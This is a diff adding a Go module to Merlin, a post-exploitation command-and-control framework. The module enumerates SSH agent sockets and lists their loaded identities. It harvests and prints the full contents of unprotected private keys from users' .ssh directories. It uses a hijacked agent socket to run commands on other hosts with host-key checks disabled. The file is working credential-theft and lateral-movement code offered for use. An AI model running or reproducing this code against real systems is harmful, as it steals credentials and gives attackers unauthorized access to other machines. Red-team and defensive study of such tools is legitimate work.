@@ -0,0 +1,209 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package commands
+
+import (
+	// Standard
+	"bytes"
+	"encoding/base64"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"path/filepath"
+	"strings"
+	"time"
+
+	// X Packages
+	"golang.org/x/crypto/ssh"
+	"golang.org/x/crypto/ssh/agent"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin-message/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+)
+
+// agentTimeout is how long to wait when connecting to an SSH agent
+const agentTimeout = 5 * time.Second
+
+// maxKeySize is the largest file, in bytes, that is read while looking for private keys
+const maxKeySize = 64 << 10
+
+// SSHAgent enumerates running SSH agents and unprotected private keys, and uses the identities loaded in an agent to
+// run commands on other hosts without knowing their private keys or passphrases
+// sshagent list [socket...]                            - Lists the identities loaded in the discovered, or provided, agents
+// sshagent keys [directory...]                         - Collects private keys from the users' .ssh, or provided, directories
+// sshagent exec <socket> <user> <host:port> <command>  - Runs the command on the host, authenticating through the agent
+func SSHAgent(cmd jobs.Command) (results jobs.Results) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("entering SSHAgent() with %+v", cmd))
+
+	if len(cmd.Args) < 1 {
+		results.Stderr = "no arguments were provided to the sshagent module"
+		return
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "list":
+		sockets := cmd.Args[1:]
+		if len(sockets) == 0 {
+			sockets = agentSockets()
+		}
+		if len(sockets) == 0 {
+			results.Stderr = "no SSH agent sockets were found"
+			return
+		}
+		results.Stdout, results.Stderr = listAgents(sockets)
+	case "keys":
+		directories := cmd.Args[1:]
+		if len(directories) == 0 {
+			directories = sshDirectories()
+		}
+		results.Stdout, results.Stderr = privateKeys(directories)
+	case "exec":
+		if len(cmd.Args) < 5 {
+			results.Stderr = fmt.Sprintf("the sshagent exec command requires at least 4 arguments but received %d", len(cmd.Args)-1)
+			return
+		}
+		var err error
+		results.Stdout, err = agentExec(cmd.Args[1], cmd.Args[2], cmd.Args[3], strings.Join(cmd.Args[4:], " "))
+		if err != nil {
+			results.Stderr = err.Error()
+		}
+	default:
+		results.Stderr = fmt.Sprintf("unknown sshagent command: %s", cmd.Args[0])
+	}
+	return
+}
+
+// listAgents connects to every socket and lists the identities loaded in the SSH agent listening on it
+func listAgents(sockets []string) (stdout, stderr string) {
+	for _, socket := range sockets {
+		conn, err := dialAgent(socket)
+		if err != nil {
+			stderr += fmt.Sprintf("there was an error connecting to the SSH agent at %s: %s\n", socket, err)
+			continue
+		}
+		keys, err := agent.NewClient(conn).List()
+		_ = conn.Close()
+		if err != nil {
+			stderr += fmt.Sprintf("there was an error listing the identities in the SSH agent at %s: %s\n", socket, err)
+			continue
+		}
+		stdout += fmt.Sprintf("%s (%d identities)\n", socket, len(keys))
+		for _, key := range keys {
+			stdout += fmt.Sprintf("\t%s %s %s\n", key.Type(), ssh.FingerprintSHA256(key), key.Comment)
+		}
+	}
+	return
+}
+
+// privateKeys reads every file in the directories and returns the contents of the private keys that are not protected
+// by a passphrase along with the location of the ones that are
+func privateKeys(directories []string) (stdout, stderr string) {
+	var protected []string
+	for _, directory := range directories {
+		entries, err := os.ReadDir(directory)
+		if err != nil {
+			if !errors.Is(err, os.ErrNotExist) {
+				stderr += fmt.Sprintf("there was an error reading the %s directory: %s\n", directory, err)
+			}
+			continue
+		}
+		for _, entry := range entries {
+			info, err := entry.Info()
+			if err != nil || !info.Mode().IsRegular() || info.Size() > maxKeySize {
+				continue
+			}
+			path := filepath.Join(directory, entry.Name())
+			data, err := os.ReadFile(path) // #nosec G304 -- Reading arbitrary files is the purpose of this command
+			if err != nil {
+				stderr += fmt.Sprintf("there was an error reading %s: %s\n", path, err)
+				continue
+			}
+			if !bytes.Contains(data, []byte("PRIVATE KEY")) {
+				continue
+			}
+			signer, err := ssh.ParsePrivateKey(data)
+			if err != nil {
+				var missing *ssh.PassphraseMissingError
+				if errors.As(err, &missing) {
+					protected = append(protected, path)
+				}
+				continue
+			}
+			stdout += fmt.Sprintf("%s %s %s\n%s\n", path, signer.PublicKey().Type(), ssh.FingerprintSHA256(signer.PublicKey()), bytes.TrimSpace(data))
+		}
+	}
+	if len(protected) > 0 {
+		stdout += fmt.Sprintf("Passphrase protected keys:\n\t%s\n", strings.Join(protected, "\n\t"))
+	}
+	if stdout == "" {
+		stdout = "no private keys were found"
+	}
+	return
+}
+
+// agentExec runs the command on the host as the user, authenticating with the identities loaded in the SSH agent
+// listening on the socket so that the agent performs the signing and the private keys never leave it
+func agentExec(socket, user, host, command string) (stdout string, err error) {
+	conn, err := dialAgent(socket)
+	if err != nil {
+		return "", fmt.Errorf("there was an error connecting to the SSH agent at %s: %s", socket, err)
+	}
+	defer conn.Close()
+
+	config := &ssh.ClientConfig{
+		User: user,
+		Auth: []ssh.AuthMethod{
+			ssh.PublicKeysCallback(agent.NewClient(conn).Signers),
+		},
+		HostKeyCallback: ssh.HostKeyCallback(func(hostname string, remote net.Addr, key ssh.PublicKey) error {
+			stdout = fmt.Sprintf("Connected to %s at %s with public key %s\n", hostname, remote.String(), key.Type()+" "+base64.StdEncoding.EncodeToString(key.Marshal()))
+			return nil
+		}),
+	}
+
+	sshClient, err := ssh.Dial("tcp", host, config)
+	if err != nil {
+		return "", fmt.Errorf("there was an error calling ssh.Dial: %s", err)
+	}
+	defer sshClient.Close()
+
+	sshSession, err := sshClient.NewSession()
+	if err != nil {
+		return stdout, fmt.Errorf("there was an error calling SSH Client NewSession(): %s", err)
+	}
+	defer sshSession.Close()
+
+	var output bytes.Buffer
+	sshSession.Stdout = io.Writer(&output)
+	sshSession.Stderr = io.Writer(&output)
+
+	err = sshSession.Run(command)
+	stdout += output.String()
+	if err != nil {
+		return stdout, fmt.Errorf("there was an error calling SSH Session Run(): %s", err)
+	}
+	return
+}